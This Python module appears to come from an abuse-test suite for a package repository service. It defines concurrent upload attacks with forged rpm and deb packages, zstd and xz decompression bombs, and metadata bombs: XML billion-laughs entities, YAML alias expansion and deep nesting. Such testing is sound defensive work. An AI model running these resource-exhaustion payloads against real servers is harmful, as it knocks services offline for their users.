"""Uploads that are small to send and large to read, to keep and to publish."""

import itertools
from collections.abc import Callable

import packages
from abuse import forged_deb, forged_rpm, service, wire
from abuse.attack import Attack, Tally, Target, in_threads

MEBIBYTE = 1 << 20
Maker = Callable[[str], tuple[str, bytes]]


def _send(target: Target, tally: Tally, where: str, makers: list[Maker], files: int, clients: int = 2, product: str | None = None) -> None:
    """Requests of `files` such packages each from two users at the same time, for as long as the attack lasts."""
    numbers = itertools.count()
    requests = len(makers) if target.short else 1 << 30

    def one(client: int) -> None:
        user = service.attackers()[(target.number * 2 + client) % 8]
        left = requests
        while left and not target.over:
            left -= 1
            make = makers[left % len(makers)]
            sent = [make(f"{make.__name__.replace('_', '-')}-{target.number}-{next(numbers)}") for _ in range(files)]
            answer = wire.upload(
                target.address, where, sent, user=user, product=product, source=target.source(client), timeout=max(5, target.left())
            )
            tally.count(answer)
            if answer.status not in (201, 0) and answer.body:
                tally.count("says " + answer.reason)
            # Who was sent away for a while comes again; who was refused too, with the next ones.
            target.wait(0.2 if answer.status in (429, 503, 507) else 0.02)

    in_threads(clients, one)


def long_paths_64(name: str) -> tuple[str, bytes]:
    return forged_rpm.long_directory(name, 62 * MEBIBYTE)


def long_paths_4(name: str) -> tuple[str, bytes]:
    return forged_rpm.long_directory(name, 4 * MEBIBYTE)


def long_paths_noarch(name: str) -> tuple[str, bytes]:
    """noarch stands in every architecture."""
    return forged_rpm.long_directory(name, 15 * MEBIBYTE, architecture="noarch")


def long_paths_outside(name: str) -> tuple[str, bytes]:
    """Files that only filelists has, with characters that XML writes with five bytes each."""
    return forged_rpm.long_directory(name, 12 * MEBIBYTE, directory="/opt/" + "&" * 50_000)


def many_files(name: str) -> tuple[str, bytes]:
    return forged_rpm.many_files(name, 200_000)


def many_dependencies(name: str) -> tuple[str, bytes]:
    return forged_rpm.many_dependencies(name, 200_000)


def escaped_text(name: str) -> tuple[str, bytes]:
    return forged_rpm.escaped_text(name, 9 * MEBIBYTE)


def many_changelogs(name: str) -> tuple[str, bytes]:
    return forged_rpm.many_changelogs(name, 100_000)


def long_changelogs(name: str) -> tuple[str, bytes]:
    return forged_rpm.many_changelogs(name, 10, text_bytes=MEBIBYTE)


RPM_MAKERS: list[Maker] = [
    long_paths_64,
    long_paths_4,
    long_paths_noarch,
    long_paths_outside,
    many_files,
    many_dependencies,
    escaped_text,
    many_changelogs,
    long_changelogs,
]


def one_rpm_each(target: Target, tally: Tally) -> None:
    _send(target, tally, service.ATTACKED_RPM, RPM_MAKERS, 1)


def ten_rpms_each(target: Target, tally: Tally) -> None:
    _send(target, tally, service.ATTACKED_RPM, [long_paths_64, long_paths_noarch], 10)


def small_rpms(target: Target, tally: Tally) -> None:
    """Each is within any limit that a request may have; the pending ones together are not."""
    _send(target, tally, service.ATTACKED_RPM, [long_paths_4], 4, clients=6)


def long_control(name: str) -> tuple[str, bytes]:
    return forged_deb.long_control(name)


def long_relations(name: str) -> tuple[str, bytes]:
    """Tens of thousands of relations, each of which has to be read."""
    return forged_deb.deb(name, more="Depends: " + ", ".join(f"p{number} (>= 1) | q" for number in range(40_000)) + "\n")


def long_description(name: str) -> tuple[str, bytes]:
    return forged_deb.deb(name, more=" .\n" + " a line of a long description\n" * 30_000)


def zstd_window_data(name: str) -> tuple[str, bytes]:
    """The reader of data.tar needs a window of 128 MiB."""
    return forged_deb.deb(name, data_packed=_FORGED["zstd"], data_packing="zst")


def xz_bomb_data(name: str) -> tuple[str, bytes]:
    return forged_deb.deb(name, data_packed=_FORGED["xz"], data_packing="xz")


def zstd_control(name: str) -> tuple[str, bytes]:
    tar = packages.tar([("./control", forged_deb.control(name)), ("./md5sums", bytes(30 * MEBIBYTE))])
    return forged_deb.deb(name, control_tar=tar, control_packing="zst")


def many_names(name: str) -> tuple[str, bytes]:
    return forged_deb.deb(name, data_packed=_FORGED["names"], data_packing="gz")


_FORGED: dict[str, bytes] = {}


def _forge_names(short: bool) -> None:
    _FORGED["names"] = forged_deb.packed(forged_deb.many_names(40_000 if short else 200_000), "gz")


def _forge_bombs(short: bool) -> None:
    _FORGED["zstd"] = forged_deb.zstd(forged_deb.zeros((140 if short else 200) * MEBIBYTE))
    _FORGED["xz"] = forged_deb.packed(forged_deb.zeros((70 if short else 100) * MEBIBYTE), "xz")


def debs_of_control(target: Target, tally: Tally) -> None:
    _send(
        target,
        tally,
        service.ATTACKED_DEB,
        [long_control, long_relations, long_description],
        10 if target.short else 200,
        clients=3,
        product="pill",
    )


def debs_of_names(target: Target, tally: Tally) -> None:
    _send(target, tally, service.ATTACKED_CONTENTS, [many_names], 2, clients=3, product="pill")


def decoders(target: Target, tally: Tally) -> None:
    """Many uploads at the same time, each of which wants the largest window that its packing has."""
    makers: list[Maker] = [zstd_window_data, xz_bomb_data, zstd_control]
    _send(target, tally, service.ATTACKED_CONTENTS, makers, 1, clients=4 if target.short else 32, product="pill")


def wide_anchor(target: Target, tally: Tally) -> None:
    """Requests of 999 files to an anchor of 726 targets."""
    user, numbers = service.wide_attacker(), itertools.count()
    files = 20 if target.short else 999
    left = 1 if target.short else 1 << 30
    while left and not target.over:
        left -= 1
        sent = [forged_rpm.rpm(f"wide-{target.number}-{next(numbers)}", architecture="noarch") for _ in range(files)]
        answer = wire.upload(target.address, service.WIDE_ANCHOR, sent, user=user, source=target.source(), timeout=max(10, target.left()))
        tally.count(answer)
        if answer.status != 201 and answer.body:
            tally.count("says " + answer.reason)
        target.wait(0.2)


def wide_pills(target: Target, tally: Tally) -> None:
    """What one target takes, to hundreds of targets at once."""
    user, numbers = service.wide_attacker(), itertools.count()
    left = 2 if target.short else 1 << 30
    while left and not target.over:
        left -= 1
        sent = [
            forged_rpm.long_directory(
                f"wide-pill-{target.number}-{next(numbers)}", (1 if left % 2 else 4) * MEBIBYTE, architecture="noarch"
            )
            for _ in range(2)
        ]
        answer = wire.upload(target.address, service.WIDE_ANCHOR, sent, user=user, source=target.source(), timeout=max(10, target.left()))
        tally.count(answer)
        if answer.status >= 400:
            tally.count("says " + answer.reason)
        target.wait(0.2)


_METADATA: list[bytes] = []


def _forge_metadata(short: bool) -> None:
    size = (30 if short else 60) * MEBIBYTE
    group = b"<group><id>a</id></group>"
    _METADATA[:] = [
        forged_deb.packed(b"<comps>" + b" " * size + b"</comps>", "gz"),
        forged_deb.packed(b"<comps>" + group * (size // len(group)) + b"</comps>", "gz"),
        forged_deb.zstd(b"<updates>" + b" " * 3 * size),
        b"<!DOCTYPE a [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]><comps>&b;</comps>",
        b"---\n" + b"[" * 100_000,
        b"<comps>" + b"<a>" * 500_000,
        b"<comps>" + group * 600_000 + b"</comps>",
        b"---\na: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: [*b,*b,*b,*b]\n" * 1000,
    ]


def metadata_bombs(target: Target, tally: Tally) -> None:
    """Comps, updateinfo and modules that are packed, nested or full of entities."""
    names = ["comps", "updateinfo", "modules"]

    def one(client: int) -> None:
        for number in itertools.count(client):
            if target.over or (target.short and number > client + 8):
                return
            path = f"/-/metadata/{service.ATTACKED_RPM}/x86_64/{names[number % 3]}"
            answer = wire.request(
                target.address,
                "PUT",
                path,
                user=service.attackers()[client % 8],
                body=_METADATA[number % len(_METADATA)],
                source=target.source(client),
                timeout=60,
            )
            tally.count(answer)
            target.wait(0.02)

    in_threads(2 if target.short else 8, one)


ATTACKS = [
    Attack("rpm-pills", "rpms of kilobytes that become megabytes, one in each request", one_rpm_each, short=True),
    Attack("rpm-pills-ten", "ten rpms of 62 MiB in each request", ten_rpms_each, short=True),
    Attack("rpm-pills-small", "rpms of 4 MiB, four in each request of six clients", small_rpms, short=True),
    Attack("deb-control", "debs with a megabyte of control", debs_of_control, short=True),
    Attack("deb-names", "debs with 200,000 files where contents are listed", debs_of_names, forge=_forge_names, short=True),
    Attack("decoders", "uploads at once that want the largest windows of zstd and xz", decoders, forge=_forge_bombs, short=True),
    Attack("wide-anchor", "999 files to an anchor of 726 targets", wide_anchor, short=True),
    Attack("wide-pills", "rpms of 1 and 4 MiB of entries to an anchor of 726 targets", wide_pills, short=True),
    Attack("metadata-bombs", "comps, updateinfo and modules that are bombs", metadata_bombs, forge=_forge_metadata, short=True),
]
